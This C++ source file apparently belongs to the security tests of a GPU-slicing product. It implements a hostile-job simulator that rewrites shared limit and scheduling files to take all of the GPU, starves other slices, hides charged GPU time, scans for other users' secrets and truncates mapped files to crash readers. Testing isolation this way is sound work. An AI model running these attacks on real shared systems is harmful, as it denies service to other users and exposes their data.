// gpuslice-attacker scribble / grep: what a hostile job or user does with
// the files it can reach. `scribble` walks the given roots, opens every
// regular file it can for writing and, pass after pass, writes into it:
// the version-1 slice region and coordination file (recognised by magic,
// offsets from the version-1 docs/SLICE_REGION.md and docs/COMPUTE.md) get
// their decision fields rewritten; every file gets the generic attacks
// (replace known values, e.g. the job's own 4 GiB limit, by others; random
// bytes), so formats that do not exist yet are attacked too. `grep` reads
// every file it can, looking for another user's secret.
//
// Everything goes through pread/pwrite, never mmap: a file truncated under
// us must not kill the attacker with SIGBUS before it reports.

#include <dirent.h>
#include <fcntl.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <unistd.h>

#include <algorithm>
#include <atomic>
#include <cerrno>
#include <chrono>
#include <cstdlib>
#include <cstring>
#include <ctime>
#include <map>
#include <random>
#include <set>
#include <thread>
#include <vector>

#include "attacker.h"

namespace gpuslice::security {
namespace {

// Version-1 formats (the layouts the escapes first went through).
constexpr uint64_t kRegionMagic = 0x4e47455253555047ull;  // "GPUSREGN"
constexpr uint64_t kCoordMagic = 0x44524f4353555047ull;   // "GPUSCORD"
constexpr uint64_t kRegionDevices = 512, kRegionDeviceSize = 384, kRegionMaxDevices = 16;
constexpr uint64_t kRegionGeneration = 80;
constexpr uint64_t kDevOwner = 0, kDevLimit = 128, kDevUsed = 192, kDevShare = 256,
                   kDevPriority = 260, kDevMode = 264, kDevPaused = 268;
constexpr uint64_t kCoordLock = 128, kCoordLockSince = 136, kCoordTurnSeq = 192, kCoordHolder = 196,
                   kCoordTurnState = 200, kCoordTurnEnd = 216;
constexpr uint64_t kCoordSlices = 512, kCoordSliceSize = 128, kCoordMaxSlices = 32;
constexpr uint64_t kSliceKey = 0, kSliceShare = 8, kSliceMode = 12, kSlicePriority = 16,
                   kSliceTokens = 24, kSliceVtime = 32;
constexpr uint64_t kCoordMembers = 512 + 32 * 128, kCoordMemberSize = 64, kCoordMaxMembers = 128;
constexpr uint64_t kMemberFlags = 12, kMemberHeartbeat = 16;
// The members file (a job's reports to the daemon's arbiter).
constexpr uint64_t kMembersMagic = 0x424d454d53555047ull;  // "GPUSMEMB"
constexpr uint64_t kMembersSlots = 256, kMembersSlotSize = 64, kMembersMaxSlots = 64;
constexpr uint64_t kMembersSlotOwner = 0, kMembersSlotFlags = 12, kMembersSlotGpuNs = 32;
constexpr uint32_t kMembersFlagGpuTime = 1u << 2;

template <typename T>
bool ReadAt(int fd, uint64_t off, T* v) {
  return pread(fd, v, sizeof(T), static_cast<off_t>(off)) == static_cast<ssize_t>(sizeof(T));
}
template <typename T>
void WriteAt(int fd, uint64_t off, T v) {
  ssize_t n = pwrite(fd, &v, sizeof(T), static_cast<off_t>(off));
  (void)n;
}

uint64_t MonotonicNs() {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return uint64_t(ts.tv_sec) * 1'000'000'000ull + uint64_t(ts.tv_nsec);
}

bool StartsWith(const std::string& s, const std::string& p) { return s.rfind(p, 0) == 0; }

// Walks `root` without following links; calls `file` for regular files and
// `dir` for directories (root included).
template <typename FileFn, typename DirFn>
void Walk(const std::string& root, FileFn file, DirFn dir, int depth = 0) {
  struct stat st;
  if (depth > 12 || lstat(root.c_str(), &st) != 0) return;
  if (S_ISREG(st.st_mode)) {
    file(root, st);
    return;
  }
  if (!S_ISDIR(st.st_mode)) return;
  dir(root, st);
  DIR* d = opendir(root.c_str());
  if (d == nullptr) return;
  while (struct dirent* e = readdir(d)) {
    std::string name = e->d_name;
    if (name == "." || name == "..") continue;
    Walk(root + "/" + name, file, dir, depth + 1);
  }
  closedir(d);
}

struct ScribbleOptions {
  std::vector<std::string> roots, shared_roots, excludes;
  std::optional<uint64_t> limit;
  std::optional<uint32_t> own_share;
  bool unpause = false, starve = false, zero_used = false, random_all = false;
  bool hide_gpu_time = false;
  std::vector<std::pair<uint64_t, uint64_t>> subst64;
  std::vector<std::pair<uint32_t, uint32_t>> subst32;
  int random_writes = 0;
};

class Scribbler {
 public:
  Scribbler(ScribbleOptions o, std::string report) : o_(std::move(o)), report_(std::move(report)) {}
  ~Scribbler() {
    for (auto& [path, fd] : fds_) close(fd);
  }

  // Finds files (new ones appear as jobs start) and writable directories.
  void Discover() {
    auto file = [&](const std::string& path, const struct stat& st, bool shared) {
      if (fds_.count(path) || tried_.count(path) || Excluded(path)) return;
      // In a shared directory (/dev/shm) only gpuslice's files and our own
      // are fair game: other programs' (and concurrent tests') files are not
      // part of this product's boundary. The simulated GPU's state stands
      // for the hardware and is excluded too.
      if (shared && path.find("gpuslice") == std::string::npos && st.st_uid != geteuid()) return;
      if (path.find("gpuslice-sim-") != std::string::npos) return;
      tried_.insert(path);
      int fd = open(path.c_str(), O_RDWR | O_NOFOLLOW | O_NONBLOCK | O_CLOEXEC);
      if (fd < 0) return;
      fds_[path] = fd;
      Report("W " + path + " uid=" + std::to_string(st.st_uid) + " mode=" + Octal(st.st_mode));
    };
    auto dir = [&](const std::string& path, const struct stat& st) {
      if (dirs_.count(path) || Excluded(path)) return;
      if (faccessat(AT_FDCWD, path.c_str(), W_OK, AT_EACCESS) == 0) {
        dirs_.insert(path);
        Report("D " + path + " uid=" + std::to_string(st.st_uid) + " mode=" + Octal(st.st_mode));
      }
    };
    for (const auto& r : o_.roots) {
      Walk(
          r, [&](const std::string& p, const struct stat& st) { file(p, st, false); }, dir);
    }
    for (const auto& r : o_.shared_roots) {
      Walk(
          r, [&](const std::string& p, const struct stat& st) { file(p, st, true); },
          [](const std::string&, const struct stat&) {});
    }
  }

  // One pass over every writable file. The fields of the formats it knows
  // are rewritten on every pass (a race against their writers is won by
  // writing often); the whole-file attacks (substitution, random bytes) only
  // on `full` passes.
  void Pass(bool full) {
    for (auto& [path, fd] : fds_) {
      uint64_t magic = 0;
      uint32_t version = 0;
      ReadAt(fd, 0, &magic);
      ReadAt(fd, 8, &version);
      bool known = false;
      if (magic == kRegionMagic && version == 1) {
        AttackRegionV1(fd);
        known = true;
      } else if (magic == kCoordMagic && version == 1) {
        AttackCoordV1(fd, full);
        known = true;
      } else if (magic == kMembersMagic && version == 1) {
        AttackMembersV1(fd);
        known = true;
      }
      if (!full) continue;
      Substitute(fd);
      if (o_.random_writes > 0 && (!known || o_.random_all)) Randomise(fd);
      if (!attacked_.count(path)) {
        attacked_.insert(path);
        Report(std::string("A ") + path + (known ? " known-v1" : " generic"));
      }
    }
    ++passes_;
  }

  int passes() const { return passes_; }
  size_t files() const { return fds_.size(); }

 private:
  bool Excluded(const std::string& path) const {
    for (const auto& e : o_.excludes) {
      if (StartsWith(path, e)) return true;
    }
    return false;
  }

  static std::string Octal(mode_t m) {
    char b[16];
    std::snprintf(b, sizeof(b), "%04o", m & 07777);
    return b;
  }

  void Report(const std::string& line) { AppendLine(report_, line); }

  void AttackRegionV1(int fd) {
    bool changed = false;
    for (uint64_t i = 0; i < kRegionMaxDevices; ++i) {
      uint64_t at = kRegionDevices + i * kRegionDeviceSize, owner = 0;
      if (!ReadAt(fd, at + kDevOwner, &owner) || (owner & 0xffffffffu) != 3) continue;
      if (o_.limit) WriteAt<uint64_t>(fd, at + kDevLimit, *o_.limit);
      if (o_.zero_used) WriteAt<uint64_t>(fd, at + kDevUsed, 0);
      if (o_.own_share) {  // Raise our own share: all of the GPU, work-conserving, high.
        WriteAt<uint32_t>(fd, at + kDevShare, 1000);
        WriteAt<uint32_t>(fd, at + kDevPriority, 3);
        WriteAt<uint32_t>(fd, at + kDevMode, 2);
      }
      if (o_.unpause) WriteAt<uint32_t>(fd, at + kDevPaused, 0);
      changed = true;
    }
    uint64_t gen = 0;
    if (changed && ReadAt(fd, kRegionGeneration, &gen))
      WriteAt<uint64_t>(fd, kRegionGeneration, gen + 1);
  }

  void AttackCoordV1(int fd, bool full) {
    const uint64_t now = MonotonicNs();
    // Starving needs a victim that has already joined: a lease held before
    // it joins only keeps it out of coordination altogether (it then runs
    // ungated), which is not what this attack is after.
    bool joined = false;
    for (uint64_t s = 0; s < kCoordMaxSlices && !joined; ++s) {
      uint64_t key = 0;
      joined = ReadAt(fd, kCoordSlices + s * kCoordSliceSize + kSliceKey, &key) && key != 0;
    }
    if (o_.starve && joined) {
      // Hold the decision lease for ever (refreshed every pass, so it never
      // expires), leave the turn closing with no holder, and drain every
      // slice's budget: nobody may launch.
      WriteAt<uint64_t>(fd, kCoordLock, (uint64_t(getpid()) << 32) | 1);
      WriteAt<uint64_t>(fd, kCoordLockSince, now);
      WriteAt<int32_t>(fd, kCoordHolder, -1);
      WriteAt<uint32_t>(fd, kCoordTurnState, 2);
      WriteAt<uint64_t>(fd, kCoordTurnEnd, now + 3'600'000'000'000ull);
      uint32_t seq = 0;
      if (ReadAt(fd, kCoordTurnSeq, &seq)) WriteAt<uint32_t>(fd, kCoordTurnSeq, seq + 2);
      for (uint64_t m = 0; full && m < kCoordMaxMembers; ++m) {
        uint64_t at = kCoordMembers + m * kCoordMemberSize;
        WriteAt<uint32_t>(fd, at + kMemberFlags, 0);
        WriteAt<uint64_t>(fd, at + kMemberHeartbeat, 1);
      }
    }
    for (uint64_t s = 0; s < kCoordMaxSlices; ++s) {
      uint64_t at = kCoordSlices + s * kCoordSliceSize, key = 0;
      uint32_t share = 0;
      if (!ReadAt(fd, at + kSliceKey, &key) || key == 0) continue;
      ReadAt(fd, at + kSliceShare, &share);
      bool mine = o_.own_share && share == *o_.own_share;
      if (mine || (o_.own_share && share == 1000)) {  // 1000: ours, already raised.
        WriteAt<uint32_t>(fd, at + kSliceShare, 1000);
        WriteAt<uint32_t>(fd, at + kSliceMode, 1);
        WriteAt<uint32_t>(fd, at + kSlicePriority, 2);
        WriteAt<int64_t>(fd, at + kSliceTokens, int64_t{1} << 40);
        WriteAt<uint64_t>(fd, at + kSliceVtime, 0);
      } else if (o_.own_share || o_.starve) {  // Everybody else: no budget, last in line.
        WriteAt<uint32_t>(fd, at + kSliceShare, 1);
        WriteAt<uint32_t>(fd, at + kSlicePriority, 0);
        WriteAt<int64_t>(fd, at + kSliceTokens, -(int64_t{1} << 40));
        WriteAt<uint64_t>(fd, at + kSliceVtime, ~0ull >> 2);
      }
    }
  }

  // Claims that every process of the slice reports the GPU time its work
  // uses, and that it used none: the counter the arbiter charges by is kept
  // at zero. The arbiter reads it every tick and counts any rise
  // from the last value it saw, so the attacker, which only loses what a read
  // catches between the shim's add and its own store, keeps storing through
  // a mapping of the file for a millisecond per pass (with --interval-us 0,
  // nearly always).
  void AttackMembersV1(int fd) {
    if (!o_.hide_gpu_time) return;
    const size_t size = kMembersSlots + kMembersMaxSlots * kMembersSlotSize;
    auto it = maps_.find(fd);
    if (it == maps_.end()) {
      void* p = mmap(nullptr, size, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
      if (p == MAP_FAILED) return;
      it = maps_.emplace(fd, static_cast<unsigned char*>(p)).first;
    }
    unsigned char* base = it->second;
    const uint64_t until = MonotonicNs() + 1'000'000;
    do {
      for (uint64_t m = 0; m < kMembersMaxSlots; ++m) {
        unsigned char* slot = base + kMembersSlots + m * kMembersSlotSize;
        if (Load<uint64_t>(slot + kMembersSlotOwner) == 0) continue;
        const uint32_t flags = Load<uint32_t>(slot + kMembersSlotFlags);
        if (!(flags & kMembersFlagGpuTime)) {
          Store<uint32_t>(slot + kMembersSlotFlags, flags | kMembersFlagGpuTime);
        }
        Store<uint64_t>(slot + kMembersSlotGpuNs, 0);
      }
    } while (MonotonicNs() < until);
  }

  template <typename T>
  static T Load(const unsigned char* at) {
    return reinterpret_cast<const std::atomic<T>*>(at)->load(std::memory_order_relaxed);
  }
  template <typename T>
  static void Store(unsigned char* at, T v) {
    reinterpret_cast<std::atomic<T>*>(at)->store(v, std::memory_order_relaxed);
  }

  // Every aligned u64/u32 equal to a known value (our limit, our share, the
  // neighbour's share) becomes the value we would like.
  void Substitute(int fd) {
    if (o_.subst64.empty() && o_.subst32.empty()) return;
    struct stat st;
    if (fstat(fd, &st) != 0 || st.st_size <= 0 || st.st_size > (64 << 20)) return;
    std::string buf(static_cast<size_t>(st.st_size), '\0');
    if (pread(fd, buf.data(), buf.size(), 0) != static_cast<ssize_t>(buf.size())) return;
    for (size_t off = 0; off + 8 <= buf.size(); off += 8) {
      uint64_t v;
      std::memcpy(&v, buf.data() + off, 8);
      for (auto [from, to] : o_.subst64) {
        if (v == from) WriteAt<uint64_t>(fd, off, to);
      }
    }
    for (size_t off = 0; off + 4 <= buf.size(); off += 4) {
      uint32_t v;
      std::memcpy(&v, buf.data() + off, 4);
      for (auto [from, to] : o_.subst32) {
        if (v == from) WriteAt<uint32_t>(fd, off, to);
      }
    }
  }

  void Randomise(int fd) {
    struct stat st;
    if (fstat(fd, &st) != 0 || st.st_size < 8) return;
    std::uniform_int_distribution<uint64_t> at(0, static_cast<uint64_t>(st.st_size) / 8 - 1);
    for (int i = 0; i < o_.random_writes; ++i) WriteAt<uint64_t>(fd, at(rng_) * 8, rng_());
  }

  ScribbleOptions o_;
  std::string report_;
  std::map<std::string, int> fds_;
  std::map<int, unsigned char*> maps_;  // Members files mapped by AttackMembersV1 (never unmapped).
  std::set<std::string> tried_, dirs_, attacked_;
  std::mt19937_64 rng_{0x5eed};
  int passes_ = 0;
};

template <typename T>
std::vector<std::pair<T, T>> ParsePairs(const std::vector<std::string>& specs) {
  std::vector<std::pair<T, T>> out;
  for (const auto& s : specs) {
    size_t eq = s.find('=');
    if (eq == std::string::npos) Die("expected OLD=NEW, got '" + s + "'");
    out.emplace_back(static_cast<T>(std::stoull(s.substr(0, eq), nullptr, 0)),
                     static_cast<T>(std::stoull(s.substr(eq + 1), nullptr, 0)));
  }
  return out;
}

}  // namespace

int Scribble(const Flags& f) {
  ScribbleOptions o;
  o.roots = f.GetAll("root");
  // What the product tells a job about its own files is the first place to
  // look: every absolute path in a GPUSLICE_* variable (the slice region, the
  // limits page, the coordination directory...), and the directory of each.
  for (char** e = environ; *e != nullptr; ++e) {
    std::string kv = *e;
    size_t eq = kv.find('=');
    if (kv.rfind("GPUSLICE_", 0) != 0 || kv.rfind("GPUSLICE_SIM_", 0) == 0 ||
        eq == std::string::npos) {
      continue;
    }
    std::string v = kv.substr(eq + 1);
    struct stat st;
    if (v.empty() || v[0] != '/' || stat(v.c_str(), &st) != 0) continue;
    if (S_ISDIR(st.st_mode)) o.roots.push_back(v);
    if (S_ISREG(st.st_mode)) {
      o.roots.push_back(v);
      o.roots.push_back(v.substr(0, v.rfind('/')));
    }
  }
  o.shared_roots = f.GetAll("shared-root");
  o.excludes = f.GetAll("exclude");
  if (f.Has("limit")) o.limit = f.GetBytes("limit", 0);
  if (f.Has("own-share")) o.own_share = static_cast<uint32_t>(std::stoul(f.Get("own-share")));
  o.unpause = f.Has("unpause");
  o.starve = f.Has("starve");
  o.zero_used = f.Has("zero-used");
  o.hide_gpu_time = f.Has("hide-gpu-time");
  o.random_all = f.Has("random-all");
  o.subst64 = ParsePairs<uint64_t>(f.GetAll("subst64"));
  o.subst32 = ParsePairs<uint32_t>(f.GetAll("subst32"));
  o.random_writes = static_cast<int>(f.GetDouble("random", 0));
  const double seconds = f.GetDouble("seconds", 5);
  const int64_t interval_us =
      static_cast<int64_t>(f.Has("interval-us") ? f.GetDouble("interval-us", 20000)
                                                : 1000 * f.GetDouble("interval-ms", 20));
  const std::string report = f.Get("report");
  if (f.Has("wait-file") && !WaitForFile(f.Get("wait-file"), 120)) Die("no " + f.Get("wait-file"));

  Scribbler s(std::move(o), report);
  AppendLine(report, "start pid=" + std::to_string(getpid()) + " uid=" + std::to_string(geteuid()) +
                         " at=" + std::to_string(NowMs()));
  auto t0 = std::chrono::steady_clock::now();
  auto deadline = t0 + std::chrono::duration<double>(seconds);
  auto next_discovery = t0, next_full = t0;
  while (std::chrono::steady_clock::now() < deadline) {
    if (std::chrono::steady_clock::now() >= next_discovery) {
      s.Discover();
      next_discovery = std::chrono::steady_clock::now() + std::chrono::milliseconds(200);
    }
    const auto now = std::chrono::steady_clock::now();
    const bool full = now >= next_full;
    if (full) next_full = now + std::chrono::milliseconds(50);
    s.Pass(full);
    std::this_thread::sleep_for(std::chrono::microseconds(interval_us));
  }
  AppendLine(report, "done passes=" + std::to_string(s.passes()) +
                         " files=" + std::to_string(s.files()) + " at=" + std::to_string(NowMs()));
  return 0;
}

int Grep(const Flags& f) {
  const std::string needle = f.Get("needle");
  const std::string report = f.Get("report");
  if (needle.empty()) Die("grep needs --needle");
  int readable = 0, hits = 0, listable = 0;
  for (const auto& root : f.GetAll("root")) {
    Walk(
        root,
        [&](const std::string& path, const struct stat&) {
          if (path.find("gpuslice-sim-") != std::string::npos) return;
          int fd = open(path.c_str(), O_RDONLY | O_NOFOLLOW | O_NONBLOCK | O_CLOEXEC);
          if (fd < 0) return;
          ++readable;
          AppendLine(report, "R " + path);
          std::string data, chunk(1 << 16, '\0');
          ssize_t n;
          while (data.size() < (64u << 20) && (n = read(fd, chunk.data(), chunk.size())) > 0) {
            data.append(chunk.data(), static_cast<size_t>(n));
          }
          close(fd);
          if (data.find(needle) != std::string::npos) {
            ++hits;
            AppendLine(report, "HIT " + path);
          }
        },
        [&](const std::string& path, const struct stat&) {
          DIR* d = opendir(path.c_str());
          if (d == nullptr) return;
          closedir(d);
          ++listable;
          AppendLine(report, "L " + path);
        });
  }
  AppendLine(report, "done readable=" + std::to_string(readable) +
                         " listable=" + std::to_string(listable) + " hits=" + std::to_string(hits));
  return 0;
}

}  // namespace gpuslice::security

namespace gpuslice::security {

// A job shrinks and regrows a file it owns (by default its slice
// region, GPUSLICE_SLICE) as fast as it can: ftruncate to 0, back to its
// size, its first bytes written back so that it looks whole again to a
// reader that checks the size and the magic. A reader that maps the file
// faults (SIGBUS) when it touches a page the file no longer has.
int TruncateLoop(const Flags& f) {
  const char* slice = getenv("GPUSLICE_SLICE");
  const std::string path = f.Get("file", slice != nullptr ? slice : "");
  const std::string report = f.Get("report");
  if (path.empty()) Die("truncate-loop: no --file and no GPUSLICE_SLICE");
  const double seconds = f.GetDouble("seconds", 30);
  int fd = open(path.c_str(), O_RDWR | O_CLOEXEC);
  if (fd < 0) Die("truncate-loop: open " + path + ": " + strerror(errno));
  struct stat st {};
  if (fstat(fd, &st) != 0 || st.st_size <= 0) Die("truncate-loop: " + path + " is empty");
  std::vector<char> head(static_cast<size_t>(std::min<off_t>(st.st_size, 4096)));
  if (pread(fd, head.data(), head.size(), 0) != static_cast<ssize_t>(head.size())) {
    Die("truncate-loop: cannot read " + path);
  }
  AppendLine(report, "go size=" + std::to_string(st.st_size) + " at=" + std::to_string(NowMs()));
  const auto end = std::chrono::steady_clock::now() + std::chrono::duration<double>(seconds);
  uint64_t loops = 0;
  int64_t last_report = NowMs();
  while (std::chrono::steady_clock::now() < end) {
    if (ftruncate(fd, 0) != 0 || ftruncate(fd, st.st_size) != 0 ||
        pwrite(fd, head.data(), head.size(), 0) != static_cast<ssize_t>(head.size())) {
      AppendLine(report,
                 std::string("error ") + strerror(errno) + " at=" + std::to_string(NowMs()));
      return 1;
    }
    ++loops;
    if (NowMs() - last_report >= 1000) {
      last_report = NowMs();
      AppendLine(report, "loops " + std::to_string(loops) + " at=" + std::to_string(last_report));
    }
  }
  close(fd);
  AppendLine(report, "done loops=" + std::to_string(loops) + " at=" + std::to_string(NowMs()));
  return 0;
}

}  // namespace gpuslice::security
